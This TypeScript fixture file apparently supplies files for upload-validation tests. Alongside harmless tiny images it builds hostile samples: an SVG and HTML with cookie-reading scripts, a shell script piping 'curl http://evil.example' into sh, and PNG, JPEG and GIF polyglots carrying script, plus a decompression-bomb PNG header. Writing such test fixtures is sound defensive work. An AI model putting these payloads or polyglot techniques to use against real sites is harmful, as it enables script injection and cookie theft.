// Real (tiny) pictures and look-alikes for upload tests.
import { crc32 } from 'node:zlib';

/** A 1x1 PNG. */
export const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);

/** A 1x1 JPEG (complete: it decodes). */
export const JPEG = Buffer.from(
  '/9j/2wBDABALDA4MChAODQ4SERATGCgaGBYWGDEjJR0oOjM9PDkzODdASFxOQERXRTc4UG1RV19iZ2hnPk1xeXBkeFxl' +
    'Z2P/2wBDARESEhgVGC8aGi9jQjhCY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2Nj' +
    'Y2P/wAARCAABAAEDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAf/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QA' +
    'FAEBAAAAAAAAAAAAAAAAAAAAAP/EABQRAQAAAAAAAAAAAAAAAAAAAAD/2gAMAwEAAhEDEQA/AKAAD//Z',
  'base64',
);

/** An SVG with a script: an image to a browser, never to us. */
export const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
);

/** A shell script renamed to look like a picture. */
export const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n');

/** An HTML page starting with a GIF header ("polyglot"): neither jpg nor png. */
export const GIF_HTML = Buffer.concat([
  Buffer.from('GIF89a'),
  Buffer.from('<html><script>alert(1)</script></html>'),
]);

/** A PNG just over the 2 MB limit (valid header, padded). */
export function oversizedPng(): Buffer {
  return Buffer.concat([PNG, Buffer.alloc(2 * 1024 * 1024 + 1 - PNG.length + 1)]);
}

const HTML = '<html><body><script>alert(document.cookie)</script></body></html>';

/** One PNG chunk: length, type, data, CRC over type and data. */
function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
}

/**
 * A valid PNG that is also a web page: a tEXt chunk with a script before the pixels and HTML
 * after IEND. Decoders show the picture; a browser sniffing it as HTML runs the script.
 */
export const POLYGLOT_PNG = Buffer.concat([
  PNG.subarray(0, 33), // signature + IHDR
  pngChunk('tEXt', Buffer.from(`Comment\0${HTML}`, 'latin1')),
  PNG.subarray(33),
  Buffer.from(HTML),
]);

/** A valid JPEG carrying HTML: a script in a comment segment, and a page after its end marker. */
export const JPEG_HTML = Buffer.concat([
  JPEG.subarray(0, 2), // SOI
  Buffer.from([0xff, 0xfe, 0, HTML.length + 2]),
  Buffer.from(HTML),
  JPEG.subarray(2),
  Buffer.from(HTML),
]);

/**
 * A PNG header declaring 20000 x 20000 pixels (400 million, 1.6 GB decoded) in a few dozen
 * bytes: a decompression bomb, refused from its header.
 */
export function pixelBombPng(): Buffer {
  const header = Buffer.from(PNG.subarray(16, 29)); // IHDR data
  header.writeUInt32BE(20_000, 0);
  header.writeUInt32BE(20_000, 4);
  return Buffer.concat([
    PNG.subarray(0, 8),
    pngChunk('IHDR', header),
    PNG.subarray(33), // the 1x1 picture's IDAT and IEND: far too little data
  ]);
}
